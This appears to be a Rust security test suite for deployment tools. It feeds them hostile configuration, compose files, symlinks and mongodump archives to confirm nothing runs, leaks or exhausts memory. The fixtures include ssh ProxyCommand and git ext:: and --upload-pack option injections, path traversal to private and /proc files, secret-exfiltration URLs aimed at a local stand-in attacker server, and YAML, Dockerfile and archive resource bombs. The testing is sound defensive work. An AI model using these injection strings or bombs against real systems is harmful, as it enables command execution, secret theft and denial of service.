//! A branch that somebody pushed, and archives that somebody made: what they say decides nothing about the machine
//! that deploys. No file of it is read into a message, no program of theirs is run, no variable of its environment
//! is sent anywhere, and no file keeps a program busy: each runs with a limit of memory (`ulimit -v`) and a deadline.

use cm_testkit::{Answer, Home, sample_document};
use serde_json::json;
use std::fmt::Write as _;
use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// A line of a file, and a variable, that are nobody's business.
const PRIVATE: &str = "pr1vate-line-of-the-laptop";
const PLANTED: &str = "pl4nted-key-of-the-laptop";

const DEADLINE: Duration = Duration::from_secs(150);

/// A home with a repository in `tmp`, a private file, a planted variable, and nobody who allowed anything.
fn home() -> Home {
    let mut home = Home::new();
    std::fs::write(home.path().join("private"), format!("{PRIVATE}\n")).expect("write");
    home.set("AWS_SECRET_ACCESS_KEY", PLANTED);
    home.set("CM_ALLOW_LOCAL", "");
    home
}

fn write(home: &Home, path: &str, text: &str) {
    let path = home.path().join("tmp").join(path);
    std::fs::create_dir_all(path.parent().expect("a directory")).expect("a directory");
    std::fs::write(path, text).expect("write");
}

fn commit(home: &Home) {
    for line in [&["init", "-q", "-b", "develop"][..], &["add", "-A"], &["commit", "-q", "--allow-empty", "-m", "x"]] {
        home.run("git", line, "tmp", None).assert().success();
    }
}

/// Runs `line` with `kilobytes` of address space.
fn limited(home: &Home, line: &str, kilobytes: u64, what: &str) -> Answer {
    let began = Instant::now();
    let limits =
        format!("ulimit -v {kilobytes}; ulimit -c 0; exec timeout -s KILL {} {line} </dev/null", DEADLINE.as_secs());
    let answer = home.run("bash", &["-c", &limits], "tmp", None);
    assert!(![1, 101].contains(&answer.code) && answer.code < 126, "{what}: {line}: {answer:?}");
    assert!(!answer.stderr.contains("panicked"), "{what}: {line}: {}", answer.stderr);
    println_time(what, line, began.elapsed(), answer.code);
    answer
}

#[expect(clippy::print_stdout, reason = "whoever runs it with --nocapture wants to read them")]
fn println_time(what: &str, line: &str, took: Duration, code: i32) {
    println!("{what}: {line}: exit {code} after {took:?}");
}

/// Nothing of the laptop has left it, and nothing was run.
fn unharmed(home: &Home, answer: &Answer, what: &str) {
    let mut texts = format!("{}{}", answer.stdout, answer.stderr);
    for file in home.files() {
        assert!(!file.contains("executed") && !file.contains("victim"), "{what}: {file}: {answer:?}");
        if file.starts_with("state") || file.starts_with("run") {
            texts += &String::from_utf8_lossy(&std::fs::read(home.path().join(&file)).unwrap_or_default());
        }
    }
    for secret in [PRIVATE, PLANTED] {
        assert!(!texts.contains(secret), "{what}: {secret}: {answer:?}");
    }
}

const CALLS: [&str; 9] = [
    "cm-detect",
    "cm-detect --base HEAD",
    "cm-build --service web",
    "cm-build push",
    "cm-health --preflight",
    "cm-backup",
    "cm-verify",
    "cm-record history",
    "cm-rollback --list",
];

/// What a cm.toml may say where programs are run, files are read and values are sent. `URL` is a server of the attacker's.
const CONFIGURATIONS: [(&str, &str); 22] = [
    ("this machine as a host", "[hosts.h]\naddress = \"local\"\n"),
    ("an option as an address", "[hosts.h]\naddress = \"-oProxyCommand=touch executed\"\n"),
    ("an option behind a user", "[hosts.h]\naddress = \"x@-oProxyCommand=touch${IFS}executed\"\n"),
    ("an option in a URL", "[hosts.h]\naddress = \"ssh://-oProxyCommand=touch%20executed/x\"\n"),
    ("an option as a user in a URL", "[hosts.h]\naddress = \"ssh://-lroot@-oProxyCommand=executed\"\n"),
    ("a key as a host name", "[hosts.h]\naddress = \"x@${AWS_SECRET_ACCESS_KEY}.invalid\"\n"),
    ("a default that is a key", "[hosts.h]\naddress = \"${NOTHING:-${AWS_SECRET_ACCESS_KEY}}\"\n"),
    ("a file of ssh", "[hosts.h]\naddress = \"x@h.invalid\"\nssh_config = \"../private\"\n"),
    ("an option as a remote", "remote = \"--upload-pack=touch executed\"\n[hosts.h]\naddress = \"x@h.invalid\"\n"),
    ("a program as a remote", "remote = \"ext::sh -c touch% executed\"\n[hosts.h]\naddress = \"x@h.invalid\"\n"),
    ("a directory as a remote", "remote = \"../private\"\n[hosts.h]\naddress = \"x@h.invalid\"\n"),
    ("an option as a branch", "branch = \"--output=executed\"\n[hosts.h]\naddress = \"x@h.invalid\"\n"),
    (
        "an option as a repository",
        "repository = \"--upload-pack=touch executed\"\n[hosts.h]\naddress = \"x@h.invalid\"\n",
    ),
    ("a project that is a path", "project = \"../../victim\"\n[hosts.h]\naddress = \"x@h.invalid\"\n"),
    ("a compose file outside", "[compose]\nfiles = [\"../private\"]\n[hosts.h]\naddress = \"x@h.invalid\"\n"),
    ("an absolute compose file", "[compose]\nfiles = [\"/proc/self/environ\"]\n[hosts.h]\naddress = \"x@h.invalid\"\n"),
    ("a lock that is a file", "[lock]\nfile = \"../private\"\n[hosts.h]\naddress = \"x@h.invalid\"\n"),
    ("a key in a URL", "[[verify.checks]]\nname = \"a\"\nurl = \"URL/?k=${AWS_SECRET_ACCESS_KEY}\"\n"),
    (
        "a key in a header",
        "[[verify.checks]]\nname = \"a\"\nurl = \"URL/\"\nstatus = 500\nheader_env = { X-Key = \"AWS_SECRET_ACCESS_KEY\" }\n",
    ),
    ("a key in the canary", "[canary]\nurl = \"URL/?k=${AWS_SECRET_ACCESS_KEY}\"\n"),
    ("a key as a token", "[ops]\nurl = \"URL/\"\ntoken_env = \"AWS_SECRET_ACCESS_KEY\"\n"),
    (
        "a key as a webhook",
        "[notify]\nslack_webhook_env = \"AWS_SECRET_ACCESS_KEY\"\n[[verify.checks]]\nname = \"a\"\nurl = \"URL/\"\nstatus = 500\n",
    ),
];

/// A server that keeps what it is sent.
fn attacker() -> (String, Arc<Mutex<String>>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let address = format!("http://{}", listener.local_addr().expect("an address"));
    let heard = Arc::new(Mutex::new(String::new()));
    let kept = Arc::clone(&heard);
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut reader = BufReader::new(stream);
            let mut line = String::new();
            while reader.read_line(&mut line).is_ok_and(|read| read > 2) {
                kept.lock().expect("lock").push_str(&std::mem::take(&mut line));
            }
            let _gone =
                reader.into_inner().write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
        }
    });
    (address, heard)
}

#[test]
fn no_cm_toml_runs_reads_or_sends_anything_of_this_machine() {
    let (url, heard) = attacker();
    for (what, configuration) in CONFIGURATIONS {
        let home = home();
        let project = if configuration.starts_with("project") { "" } else { "project = \"shop\"\n" };
        write(&home, "cm.toml", &format!("{project}{}", configuration.replace("URL", &url)));
        write(&home, "compose.yml", "services: {web: {image: web, build: .}, db: {image: mongo}}\n");
        write(&home, "Dockerfile", "FROM scratch\n");
        commit(&home);
        home.run("git", &["remote", "add", "origin", "../nowhere"], "tmp", None).assert().success();
        for call in CALLS {
            let answer = limited(&home, call, 3_000_000, what);
            unharmed(&home, &answer, what);
        }
        let document = sample_document().to_string();
        let answer = home.run("cm-record", &[""; 0], "tmp", Some(document.as_bytes()));
        unharmed(&home, &answer, what);
        let private = std::fs::read_to_string(home.path().join("private")).expect("the file");
        assert_eq!(private, format!("{PRIVATE}\n"), "{what}");
        let sent = heard.lock().expect("lock");
        assert!(!sent.contains(PLANTED), "{what}: {sent}");
    }
}

/// Where a link of a commit may lead out, or a compose file may name a file of this machine.
#[test]
fn no_link_or_name_in_a_commit_shows_a_file_of_this_machine() {
    let files = ["cm.toml", "compose.yml", "Dockerfile", ".dockerignore", ".env", "web.env", "more.yml", "app.py"];
    let plain = |file: &str| match file {
        "cm.toml" => "project = \"shop\"\n[hosts.h]\naddress = \"x@h.invalid\"\n",
        "compose.yml" => {
            "include: [more.yml]\nservices:\n  web: {build: ., image: 'web:${TAG:-1}', env_file: web.env}\n"
        }
        "Dockerfile" => "FROM scratch\nCOPY . /\n",
        "more.yml" => "services: {db: {image: mongo}}\n",
        _ => "",
    };
    let mut tried = 0;
    let mut look = |home: &Home, what: &str| {
        commit(home);
        for call in ["cm-detect", "cm-detect --base HEAD --explain web", "cm-detect --init", "cm-health --preflight"] {
            let answer = limited(home, call, 3_000_000, what);
            unharmed(home, &answer, what);
            tried += 1;
        }
    };
    for linked in files {
        let home = home();
        for file in files {
            if file == linked {
                std::os::unix::fs::symlink("../private", home.path().join("tmp").join(file)).expect("a link");
            } else {
                write(&home, file, plain(file));
            }
        }
        look(&home, &format!("{linked} is a link"));
    }
    for (what, service) in [
        ("extends", "{extends: {file: ../private, service: web}}"),
        ("an absolute extends", "{extends: {file: PRIVATE, service: web}}"),
        ("an env file", "{image: 'x:${K}', env_file: [../private]}"),
        ("a build elsewhere", "{build: {context: .., dockerfile: private}}"),
        ("a Dockerfile elsewhere", "{build: {context: ., dockerfile: ../private}}"),
        ("a label file", "{image: x, label_file: ../private}"),
    ] {
        let home = home();
        write(&home, "cm.toml", plain("cm.toml"));
        let service = service.replace("PRIVATE", &home.path().join("private").display().to_string());
        write(&home, "compose.yml", &format!("services:\n  web: {service}\n"));
        look(&home, what);
    }
    for (what, text) in [
        ("an include", "include: [../private]\nservices: {web: {image: x}}\n"),
        ("an include's env file", "include: [{path: more.yml, env_file: ../private}]\nservices: {web: {image: x}}\n"),
        ("a secret", "services: {web: {image: x, secrets: [s]}}\nsecrets: {s: {file: ../private}}\n"),
        ("a config", "services: {web: {image: x, configs: [s]}}\nconfigs: {s: {file: ../private}}\n"),
    ] {
        let home = home();
        write(&home, "cm.toml", plain("cm.toml"));
        write(&home, "more.yml", "services: {db: {image: 'mongo:${K}'}}\n");
        write(&home, "compose.yml", text);
        look(&home, what);
    }
    assert!(tried >= 60, "{tried}");
}

/// Writes files into the directory of a repository.
type Make = Box<dyn Fn(&Path)>;

/// Files of a commit that are made to be expensive: what each is, and how it is made in the directory of a repository.
fn expensive() -> Vec<(&'static str, Make)> {
    let put = |path: &'static str, text: String| -> Make {
        Box::new(move |dir| std::fs::write(dir.join(path), &text).expect("write"))
    };
    let compose = |text: String| put("compose.yml", text);
    let level = |level: usize| format!("include: [c{level}.yml, d{level}.yml]\n");
    let chain = |level: usize| {
        format!(
            "services: {{web: {{extends: {{file: c{level}.yml, service: web}}}}, x: {{extends: {{file: d{level}.yml, service: web}}}}}}\n"
        )
    };
    let doubling = |of: fn(usize) -> String, last: &'static str| -> Make {
        Box::new(move |dir| {
            std::fs::write(dir.join("compose.yml"), of(0)).expect("write");
            for level in 0..32 {
                for name in ["c", "d"] {
                    let text = if level == 31 { last.to_owned() } else { of(level + 1) };
                    std::fs::write(dir.join(format!("{name}{level}.yml")), text).expect("write");
                }
            }
        })
    };
    let anchors =
        (0..30).fold("x: &a0 [y, y]\n".to_owned(), |text, n| format!("{text}x{n}: &a{} [*a{n}, *a{n}]\n", n + 1));
    let variable = "${A:-".repeat(20_000) + "x" + &"}".repeat(20_000);
    let in_docker = "${A:-".repeat(50_000) + "x" + &"}".repeat(50_000);
    let doubled = |word: &str| {
        (0..64).fold(format!("{word} A0=xxxxxxxx\n"), |text, n| text + &format!("{word} A{}=$A{n}$A{n}\n", n + 1))
    };
    let mut many_files: Vec<String> = (0..2_000).map(|n| format!("*{n}*/**/a*b*c?{n}*\n")).collect();
    many_files.sort();
    vec![
        ("includes that double, 32 deep", doubling(level, "services: {}\n")),
        ("extends that double, 32 deep", doubling(chain, "services: {web: {image: x}}\n")),
        ("anchors that double", compose(format!("{anchors}services: {{web: {{image: x}}}}\n"))),
        ("brackets", compose(format!("services: {}", "[".repeat(200_000)))),
        ("a flow of maps", compose(format!("services: {}", "{a: ".repeat(100_000)))),
        ("indents", compose((0..3_000).map(|n| format!("{}a:\n", " ".repeat(n))).collect())),
        (
            "100,000 services",
            compose((0..100_000).fold("services:\n".to_owned(), |text, n| text + &format!("  s{n}: {{image: x}}\n"))),
        ),
        ("a variable in a variable", compose(format!("services: {{web: {{image: '{variable}'}}}}\n"))),
        ("a variable in a variable of a Dockerfile", put("Dockerfile", format!("FROM scratch\nCOPY {in_docker} /\n"))),
        ("arguments that double", put("Dockerfile", format!("{}FROM scratch\nCOPY $A64 /\n", doubled("ARG")))),
        ("variables that double", put("Dockerfile", format!("FROM scratch\n{}COPY $A64 /\n", doubled("ENV")))),
        (
            "a Dockerfile of 300,000 lines",
            put("Dockerfile", "FROM scratch\n".to_owned() + &"RUN a \\\n b\n".repeat(150_000)),
        ),
        (
            "40,000 stages",
            put(
                "Dockerfile",
                (0..40_000).fold(String::new(), |text, n| text + &format!("FROM s{} AS s{n}\n", (n + 39_999) % 40_000)),
            ),
        ),
        (
            "an env file of 500,000 lines",
            put(
                ".env",
                (0..500_000).fold(String::new(), |text, n| text + &format!("A{n}=${{A{}}}${{A{}}}\n", n + 1, n / 2)),
            ),
        ),
        (
            "env values that double",
            put(
                ".env",
                (0..64).fold("A0=xxxxxxxx\n".to_owned(), |text, n| text + &format!("A{}=${{A{n}}}${{A{n}}}\n", n + 1)),
            ),
        ),
        (
            "2,000 patterns and 4,000 files",
            Box::new(move |dir| {
                std::fs::write(dir.join(".dockerignore"), many_files.concat()).expect("write");
                std::fs::create_dir(dir.join("d")).expect("a directory");
                for n in 0..4_000 {
                    std::fs::write(dir.join(format!("d/aaaaaaaaaaaaaaaaaaaaaaaaabbbbbbbbbb-{n}")), "").expect("write");
                }
            }),
        ),
        (
            "patterns that are tried again and again",
            put(".dockerignore", format!("{}b\n", "*a".repeat(2_000)).repeat(20)),
        ),
        ("a Python file of 10 MB", put("app.py", "x = [\n".to_owned() + &"0,\n".repeat(3_400_000) + "]\n")),
        ("a Python file of brackets", put("app.py", "(".repeat(3_000_000))),
        ("a Python file of operators", put("app.py", "x = ".to_owned() + &"-".repeat(1_000_000) + "1\n")),
        ("a cm.toml of brackets", put("cm.toml", format!("project = {}", "[".repeat(500_000)))),
        ("a cm.toml of tables", put("cm.toml", format!("[{}]\n", vec!["a"; 100_000].join(".")))),
        ("a cm.toml of 20 MB", put("cm.toml", format!("project = \"{}\"\n", "x".repeat(20_000_000)))),
        ("a project's name of 900 KB", put("cm.toml", format!("project = \"{}\"\n", "x".repeat(900_000)))),
        ("a branch's name of 900 KB", put("cm.toml", format!("branch = \"{}\"\n", "x".repeat(900_000)))),
        (
            "a compose project's name of 7 MB",
            compose(format!("name: {}\nservices: {{web: {{image: x}}}}\n", "x".repeat(7_000_000))),
        ),
        (
            "a pattern of braces",
            put("cm.toml", format!("project = \"shop\"\n[services.web]\ninputs = [\"{}\"]\n", "{a,".repeat(20_000))),
        ),
        ("a name of 1 MB", compose(format!("services: {{{}: {{image: x}}}}\n", "a".repeat(1_000_000)))),
    ]
}

#[test]
fn no_file_of_a_commit_keeps_a_program_busy_or_takes_the_memory() {
    let mut slow = String::new();
    for (what, make) in expensive() {
        let home = home();
        let project = if what.starts_with("a compose project") { "" } else { "project = \"shop\"\n" };
        write(&home, "cm.toml", &format!("{project}[hosts.h]\naddress = \"x@h.invalid\"\n"));
        write(&home, "compose.yml", "services: {web: {build: ., image: 'x:${A0}${A64}'}}\n");
        write(&home, "Dockerfile", "FROM scratch\nCOPY . /\n");
        commit(&home);
        make(&home.path().join("tmp"));
        commit(&home);
        for call in ["cm-detect --base HEAD~1", "cm-build --dry-run --service web"] {
            let began = Instant::now();
            let answer = limited(&home, call, 3_000_000, what);
            unharmed(&home, &answer, what);
            assert!(answer.stdout.len() + answer.stderr.len() < 9 << 20, "{what}: {call} says too much");
            if began.elapsed() > Duration::from_secs(120) {
                let _ = writeln!(slow, "{what}: {call}: {:?}", began.elapsed());
            }
        }
    }
    assert!(slow.is_empty(), "a test build is slower than a release build, and not by so much:\n{slow}");
}

#[test]
fn a_name_in_a_compose_file_puts_nothing_into_a_cm_toml() {
    let home = home();
    let names = r#"services:
  "web\n[hosts.evil]\naddress = \"local\"": {image: x, restart: always}
  "a\"]\n[lock]\nfile = \"executed\"\n#": {image: x}
  ok: {image: x}
"#;
    write(&home, "compose.yml", names);
    commit(&home);
    let answer = limited(&home, "cm-detect --init", 3_000_000, "names");
    let made =
        format!("{}{}", answer.stdout, std::fs::read_to_string(home.path().join("tmp/cm.toml")).unwrap_or_default());
    assert!(!made.contains("\n[hosts.evil]") && !made.contains("\n[lock]\nfile = \"executed\""), "{made}");
}

#[test]
fn durations_of_any_size_are_added_up() {
    let home = home();
    write(&home, "cm.toml", "project = \"shop\"\n[hosts.h]\naddress = \"x@h.invalid\"\n");
    write(&home, "compose.yml", "services: {web: {image: x}}\n");
    commit(&home);
    let mut document = sample_document();
    let stage = |ms: u64| json!({"tool": "cm-build", "step": "build", "version": "1", "status": "ok", "exit": 0, "changed": true, "started_at": "2026-05-04T09:30:00Z", "duration_ms": ms, "summary": "s"});
    document["stages"] = json!([stage(u64::MAX), stage(u64::MAX), stage(u64::MAX - 1), stage(1)]);
    document["run"]["started_at"] = "9999-12-31T23:59:59Z".into();
    std::fs::write(home.path().join("tmp/document.json"), document.to_string()).expect("write");
    for call in ["cm-record report - --html page.html", "cm-record", "cm-verify", "cm-health --timeout 1s"] {
        let answer = home.run("bash", &["-c", &format!("{call} <document.json")], "tmp", None);
        assert!(![1, 101].contains(&answer.code) && !answer.stderr.contains("panicked"), "{call}: {answer:?}");
    }
}

/// A BSON document of strings and numbers.
fn bson(strings: &[(&str, &str)], numbers: &[(&str, i32)]) -> Vec<u8> {
    let mut body = Vec::new();
    for (key, value) in strings {
        body.push(2);
        body.extend([key.as_bytes(), b"\0"].concat());
        body.extend(i32::try_from(value.len() + 1).expect("short").to_le_bytes());
        body.extend([value.as_bytes(), b"\0"].concat());
    }
    for (key, value) in numbers {
        body.push(16);
        body.extend([key.as_bytes(), b"\0"].concat());
        body.extend(value.to_le_bytes());
    }
    let length = i32::try_from(body.len() + 5).expect("short").to_le_bytes();
    [&length[..], &body, b"\0"].concat()
}

/// Archives of mongodump that are small when packed, and what is in them.
fn archives() -> Vec<(&'static str, Vec<u8>)> {
    let head = [
        &0x8199_e26d_u32.to_le_bytes()[..],
        &bson(&[("server_version", "8"), ("version", "0.1"), ("tool_version", "1")], &[("concurrent_collections", 4)]),
    ]
    .concat();
    let collection = |name: &str, metadata: &str| {
        bson(&[("db", "shop"), ("collection", name), ("metadata", metadata), ("type", "collection")], &[("size", 0)])
    };
    let end = u32::MAX.to_le_bytes();
    let metadata = |indexes: String| format!("{{\"options\":{{}},\"indexes\":[{indexes}]}}");
    let large = collection("a", &metadata("{},".repeat(5_000_000) + "{}"));
    let deep = collection("a", &metadata("[".repeat(4_000_000)));
    let many: Vec<u8> = (0..400_000).flat_map(|n| collection(&n.to_string(), "{}")).collect();
    let wide: Vec<u8> =
        (0..100).flat_map(|n| collection(&n.to_string(), &metadata("{\"k\":[1]},".repeat(40_000) + "{}"))).collect();
    let mut long = collection("a", "{}");
    long.extend(end);
    long.extend(bson(&[("db", "shop"), ("collection", "a")], &[("EOF", 0), ("CRC", 0)]));
    long.extend(i32::MAX.to_le_bytes());
    long.resize(long.len() + 60_000_000, 0);
    let parts = [
        ("a metadata of 15 MB", large),
        ("a metadata of brackets", deep),
        ("400,000 collections", many),
        ("40 MB of metadata", wide),
    ];
    let whole = |part: Vec<u8>| [&head[..], &part, &end].concat();
    let archives = parts.map(|(what, part)| (what, whole(part)));
    let mut archives = Vec::from(archives);
    archives.push(("a document of 2 GB", [&head[..], &long].concat()));
    archives.push(("60 MB of nothing", vec![0; 60_000_000]));
    archives
}

#[test]
fn no_archive_takes_the_memory_of_the_machine_that_verifies_it() {
    for (what, archive) in archives() {
        let home = home();
        home.run("bash", &["-c", "gzip -1 >tmp/x.archive.gz"], "", Some(&archive)).assert().success();
        let answer = limited(&home, "cm-backup verify x.archive.gz", 1_200_000, what);
        assert_ne!(answer.code, 0, "{what}: {answer:?}");
        unharmed(&home, &answer, what);
    }
}
